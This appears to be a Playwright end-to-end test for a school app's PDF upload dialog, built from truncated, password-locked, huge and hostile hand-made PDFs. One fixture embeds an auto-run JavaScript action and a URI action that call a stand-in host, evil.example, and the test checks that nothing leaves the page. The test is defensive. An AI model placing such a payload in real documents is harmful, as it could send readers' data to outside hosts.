import * as ruBoard from '@school/words/ru/shared/room-board';
import * as ruShelf from '@school/words/ru/teacher/board-shelf';

import { expect, test } from './fixtures.ts';
import { enterTheRoom } from './steps/lesson-room.ts';
import { madeUpMedia, tabletAndLaptop } from './steps/room-device.ts';
import { words } from './words.ts';

test.use(madeUpMedia);

const { ru } = words;
const { pdf } = ruShelf.texts;

interface Made {
  /** Of its catalogue, of each page, and of the end. */
  catalogue?: string;
  page?: string;
  trailer?: string;
  objects?: readonly string[];
  pages?: number;
  says?: string;
}

/** A small PDF, with whatever somebody has put into it. */
function aPdf({
  catalogue = '',
  page = '/MediaBox[0 0 400 300]',
  trailer = '',
  objects = [],
  pages = 1,
  says = '(Page) Tj',
}: Made = {}): Buffer {
  const drawn = `BT /F 72 Tf 60 200 Td ${says} ET`;
  const numbers = Array.from({ length: pages }, (_, n) => 10 + n);
  const all = [
    `1 0 obj <</Type/Catalog/Pages 2 0 R${catalogue}>> endobj`,
    `2 0 obj <</Type/Pages/Count ${pages}/Kids[${numbers.map((n) => `${n} 0 R`).join(' ')}]>> endobj`,
    ...numbers.map((n) => `${n} 0 obj <</Type/Page/Parent 2 0 R${page}/Contents 4 0 R/Resources<</Font<</F 5 0 R>>>>>> endobj`),
    `4 0 obj <</Length ${drawn.length}>> stream\n${drawn}\nendstream endobj`,
    ...(objects.length > 0 ? objects : ['5 0 obj <</Type/Font/Subtype/Type1/BaseFont/Helvetica>> endobj']),
  ];
  return Buffer.from(`%PDF-1.4\n${all.join('\n')}\ntrailer <</Root 1 0 R${trailer}>>\n%%EOF`, 'latin1');
}

const lock = 'a'.repeat(64);
const hostile = {
  'cut off in the middle': { file: aPdf().subarray(0, 60), says: pdf.broken },
  'no PDF at all': { file: Buffer.from('<html>not a file of pages</html>'), says: pdf.broken },
  'with a password': {
    file: aPdf({ trailer: `/ID[<${'0'.repeat(32)}><${'0'.repeat(32)}>]/Encrypt<</Filter/Standard/V 1/R 2/O<${lock}>/U<${lock}>/P -4>>` }),
    says: pdf.locked,
  },
  'a page as large as a field': { file: aPdf({ page: '/MediaBox[0 0 200000 200000]' }), pages: 1 },
  'ten thousand pages': { file: aPdf({ pages: 10_000 }), says: pdf.tooLong(10_000, 40), pages: 40 },
  'with a script and an address': {
    file: aPdf({
      catalogue:
        "/OpenAction<</S/JavaScript/JS(app.alert\\(1\\); this.submitForm\\('https://evil.example/'\\);)>>/AA<</O<</S/URI/URI(https://evil.example/)>>>>",
    }),
    pages: 1,
  },
  'in Chinese, without its own font': {
    file: aPdf({
      says: '<4F60597D> Tj',
      objects: [
        '5 0 obj <</Type/Font/Subtype/Type0/BaseFont/STSong-Light/Encoding/UniGB-UCS2-H/DescendantFonts[6 0 R]>> endobj',
        '6 0 obj <</Type/Font/Subtype/CIDFontType0/BaseFont/STSong-Light/CIDSystemInfo<</Registry(Adobe)/Ordering(GB1)/Supplement 4>>/FontDescriptor 7 0 R>> endobj',
        '7 0 obj <</Type/FontDescriptor/FontName/STSong-Light/Flags 6/FontBBox[-25 -254 1000 880]/ItalicAngle 0/Ascent 880/Descent -120/CapHeight 880/StemV 93>> endobj',
      ],
    }),
    pages: 1,
  },
} as const;

test('a PDF that is broken, locked, huge or hostile says so or gives its pages, and nothing of it leaves the page @long', async ({
  school,
  openDevice,
}) => {
  const { teacher } = await enterTheRoom(school, await tabletAndLaptop(openDevice), ru);
  const foreign: string[] = [];
  const own: string[] = [];
  teacher.on('request', (request) => {
    const { origin, pathname, protocol } = new URL(request.url());
    if (/^https?:$/.test(protocol)) (origin === new URL(school.url).origin ? own : foreign).push(pathname);
  });
  teacher.on('dialog', (dialog) => void foreign.push(dialog.message()));
  await teacher.getByRole('button', { name: ru.teacherRoom.tools.board, exact: true }).first().click();
  await teacher.getByRole('button', { name: ruBoard.texts.shelf }).click();
  const dialog = teacher.getByRole('dialog', { name: pdf.title });
  for (const [name, given] of Object.entries(hostile)) {
    await test.step(name, async () => {
      await teacher.locator('input[type=file]').setInputFiles({ name: 'lesson.pdf', mimeType: 'application/pdf', buffer: given.file });
      if ('says' in given) await expect(dialog.getByText(given.says)).toBeVisible();
      if ('pages' in given) {
        await expect(dialog.getByRole('checkbox')).toHaveCount(given.pages);
        await expect(dialog.locator('img').first()).toBeVisible();
      }
      await teacher.keyboard.press('Escape');
      await expect(dialog).toBeHidden();
    });
  }
  expect(foreign).toEqual([]);
  // What the Chinese page leaves to its reader came from the school's own build.
  expect(own.some((path) => /UniGB-UCS2-H.*\.bcmap$/.test(path))).toBe(true);
});
